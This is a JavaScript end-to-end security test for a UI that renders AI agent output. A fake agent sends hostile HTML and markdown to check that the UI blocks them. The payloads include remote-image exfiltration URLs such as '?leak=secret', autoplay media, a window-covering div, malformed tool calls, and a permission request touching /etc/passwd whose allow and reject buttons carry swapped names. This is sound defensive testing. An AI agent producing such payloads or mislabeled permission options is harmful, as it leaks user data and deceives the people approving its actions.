// The attacks of docs/SECURITY.md ("What the window and the browser page
// load") through the real UI: a real headless hub, the fake agent
// (acp/acptest) sending hostile text and shapes, headless Chromium.
//
//   node e2e/security.mjs        (after `vite build`; npm run e2e runs it)
//
//   - a message with remote images, srcset, <picture>, <video autoplay>,
//     <audio>, poster and background makes no request to their host (a
//     tiny HTTP server on 127.0.0.1 counts hits: zero); the image is a
//     link the user clicks instead;
//   - the page's Content-Security-Policy blocks a remote image and fetch
//     made by script in the page (the server still gets no hit);
//   - a <div class="backdrop"> from the agent does not cover the window;
//   - clicking an agent link leaves the page where it is;
//   - hostile tool_call shapes (content not an array; in a permission
//     request's tool call a numeric status, locations an object) do not
//     wedge the thread: later text still shows, after a reload too;
//   - permission buttons say the option's kind: an allow_once option named
//     "Deny" reads "Allow once", and choosing the reject_once one named
//     "Allow" answers that option.
import { mkdirSync } from 'node:fs';
import { createServer } from 'node:http';
import { join } from 'node:path';
import { buildFakeAgent, checker, logger, noProblems, openPage, runScript, startHub, tempDir } from './harness.mjs';

const log = logger('security');
const tmp = tempDir('switchboard-security-');
let hub;
let browser;

/** An HTTP server on 127.0.0.1 that records every request it gets. */
async function startSpy() {
  const hits = [];
  const server = createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'Content-Type': 'image/gif', 'Access-Control-Allow-Origin': '*' });
    res.end();
  });
  await new Promise((r) => server.listen(0, '127.0.0.1', r));
  return { origin: `http://127.0.0.1:${server.address().port}`, hits, close: () => server.close() };
}

const check = checker(log);

async function main() {
  log('building the hub and the fake agent');
  const agentBin = buildFakeAgent(tmp.dir);
  const work = join(tmp.dir, 'project');
  mkdirSync(work);
  hub = await startHub(tmp.dir, {
    fake: { name: 'Fake', command: agentBin, args: ['-test.run=^$'], env: { SWITCHBOARD_FAKE_AGENT: '1' } },
  });
  const spy = await startSpy();
  log('hub at', hub.url, '- spy at', spy.origin);
  const opened = await openPage(hub);
  browser = opened.browser;
  const { page, problems } = opened;
  page.setDefaultTimeout(20000);

  const title = 'Hostile agent';
  await hub.api('POST', '/v1/threads', { body: { agent: 'fake', cwd: work, title } });
  const nav = page.getByRole('navigation', { name: 'Threads' });
  await nav.getByRole('button', { name: new RegExp(title) }).click();
  await page.getByRole('heading', { name: title }).waitFor();

  /** Sends a prompt from the composer and waits until its turn has ended on the page; its li. */
  const submit = async (text) => {
    // The composer sends once no turn runs (Stop gone).
    await page.getByRole('button', { name: 'Stop' }).waitFor({ state: 'hidden' });
    const box = page.getByRole('textbox', { name: 'Message' });
    await box.fill(text);
    await box.press('Enter');
    const li = page.locator('li.turn').last();
    await li.locator('pre.input').filter({ hasText: text.slice(0, 30) }).waitFor();
    return li;
  };
  const send = async (text) => {
    const li = await submit(text);
    await page.waitForFunction(() => !document.querySelector('li.turn:last-child .working'));
    return li;
  };

  // 1. Remote loads from a message.
  const o = spy.origin;
  const hostileText = [
    `echo Look: ![chart](${o}/md.png?leak=secret)`,
    `<img src="${o}/img.png" alt="raw">`,
    `<img srcset="${o}/srcset.png 1x" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="dot">`,
    `<picture><source srcset="${o}/picture.png"><img src="${o}/picture-img.png" alt="pic"></picture>`,
    `<video autoplay muted src="${o}/video.mp4" poster="${o}/poster.png"></video>`,
    `<audio autoplay src="${o}/audio.mp3"></audio>`,
    `<table background="${o}/bg.png"><tr><td>cell</td></tr></table>`,
    `<a href="${o}/clicked">a link</a>`,
    '<div class="backdrop" id="cover">COVER</div>',
  ].join(' ');
  let li = await send(hostileText);
  await li.locator('.md').getByText('Look:').waitFor();
  await page.waitForTimeout(1500);
  check(spy.hits.length === 0, `rendering remote images and media made no request (hits: ${spy.hits.join(', ') || 'none'})`);
  const imageLink = li.locator('.md a', { hasText: 'Image: chart' });
  check((await imageLink.getAttribute('href')) === `${o}/md.png?leak=secret`, 'the remote image is a link the user clicks');
  check((await li.locator('.md img').count()) === 1, 'only the data: image is an <img>');
  check((await li.locator('.md video, .md audio, .md picture, .md source, [srcset], [poster], [background]').count()) === 0, 'no media element or loading attribute');

  // 2. The agent's .backdrop does not cover the window.
  const cover = await page.evaluate(() => {
    const el = [...document.querySelectorAll('.md div')].find((d) => d.textContent === 'COVER');
    if (!el) return { found: false };
    const atCentre = document.elementFromPoint(innerWidth / 2, innerHeight / 2);
    return {
      found: true,
      cls: el.getAttribute('class'),
      id: el.getAttribute('id'),
      position: getComputedStyle(el).position,
      covers: el === atCentre || el.contains(atCentre),
      height: el.getBoundingClientRect().height,
    };
  });
  check(cover.found && cover.cls === null && cover.id === null, `the agent's div lost its class and id (${JSON.stringify(cover)})`);
  check(cover.position === 'static' && !cover.covers && cover.height < 100, 'the agent\'s "backdrop" does not cover the window');

  // 3. Clicking an agent link leaves the page where it is (and the link opens a new tab without opener).
  const before = page.url();
  const popup = page.context().waitForEvent('page', { timeout: 5000 }).catch(() => null);
  await li.locator('.md a', { hasText: 'a link' }).click();
  const tab = await popup;
  check(page.url() === before, 'the page did not navigate');
  check(tab !== null && (await tab.evaluate(() => window.opener === null).catch(() => true)), 'the link opened in a new tab without opener');
  await tab?.close();
  await page.bringToFront(); // a page in the background gets no animation frames: the store applies events on them
  spy.hits.length = 0; // that click was the user's

  // 4. Hostile tool call shapes, stored; the thread keeps updating.
  await send('raw-update {"sessionUpdate":"tool_call","toolCallId":"h1","title":"content is an object","status":"pending","content":{"type":"diff","path":"/x"}}');
  await send('raw-update {"sessionUpdate":"tool_call","toolCallId":"h2","title":"content is a number","content":5}');
  li = await send('echo still alive after the hostile tool calls');
  await li.locator('.md').getByText('still alive after the hostile tool calls').waitFor();
  check((await page.locator('details.tool .title', { hasText: 'content is an object' }).count()) === 1, 'the hostile tool call shows as a card');

  // 5. Permission buttons by kind, on a request whose tool call is hostile too.
  const ask = {
    toolCall: { toolCallId: 'p1', title: 'Hostile ask', status: 7, locations: { path: '/etc/passwd' }, content: 'not a list' },
    options: [
      { optionId: 'o-allow', name: 'Deny', kind: 'allow_once' },
      { optionId: 'o-reject', name: 'Allow', kind: 'reject_once' },
    ],
  };
  await submit(`ask ${JSON.stringify(ask)}`);
  const card = page.getByRole('region', { name: /Permission request: Hostile ask/ }).first();
  await card.waitFor();
  const labels = await card.locator('.options button').allTextContents();
  check(
    JSON.stringify(labels) === JSON.stringify(["Allow once, in the agent's words: “Deny”", "Deny, in the agent's words: “Allow”", 'Always…']),
    `the buttons say the kind first: ${JSON.stringify(labels)}`,
  );
  const reject = card.getByRole('button', { name: /^Deny/ });
  await page.waitForFunction(() => [...document.querySelectorAll('.options button')].some((b) => b.textContent.startsWith('Deny') && !b.disabled));
  await reject.click();
  li = page.locator('li.turn').last();
  await li.locator('.md').getByText('outcome: {"outcome":{"outcome":"selected","optionId":"o-reject"}}').waitFor();
  check(true, 'the reject_once option named "Allow" answered o-reject');

  // 6. Reload: the stored hostile data renders again, and the thread still updates.
  await page.reload();
  await page.getByRole('status').filter({ hasText: 'Connected' }).waitFor();
  await nav.getByRole('button', { name: new RegExp(title) }).click();
  await page.getByRole('heading', { name: title }).waitFor();
  await page.locator('.md').getByText('still alive after the hostile tool calls').waitFor();
  li = await send('echo and after the reload');
  await li.locator('.md').getByText('and after the reload').waitFor();
  check(true, 'after a reload the thread shows its stored hostile history and keeps updating');
  check(spy.hits.length === 0, `no request reached the spy after the reload either (hits: ${spy.hits.join(', ') || 'none'})`);
  noProblems(problems);

  // 7. The policy itself: script in the page cannot load a remote image or fetch one.
  const blocked = await page.evaluate(async (origin) => {
    const img = new Image();
    const loaded = new Promise((r) => {
      img.onload = () => r('loaded');
      img.onerror = () => r('blocked');
    });
    img.src = `${origin}/csp-img.png`;
    document.body.append(img);
    let fetched = 'blocked';
    try {
      await fetch(`${origin}/csp-fetch`, { mode: 'no-cors' });
      fetched = 'fetched';
    } catch {
      // refused by connect-src
    }
    return { img: await loaded, fetched };
  }, o);
  await page.waitForTimeout(500);
  check(blocked.img === 'blocked' && blocked.fetched === 'blocked' && spy.hits.length === 0, `the CSP blocks a remote image and fetch from the page (${JSON.stringify(blocked)}, hits: ${spy.hits.length})`);
  const csp = await page.evaluate(async () => (await fetch('/')).headers.get('Content-Security-Policy'));
  check(/img-src 'self' data:/.test(csp) && /media-src 'none'/.test(csp) && /base-uri 'none'/.test(csp) && /connect-src 'self'/.test(csp), `the UI's policy: ${csp}`);
  spy.close();
}

await runScript('security', main, { live: () => ({ hub, browser }), hubLines: 20, cleanup: () => tmp.remove(log) });
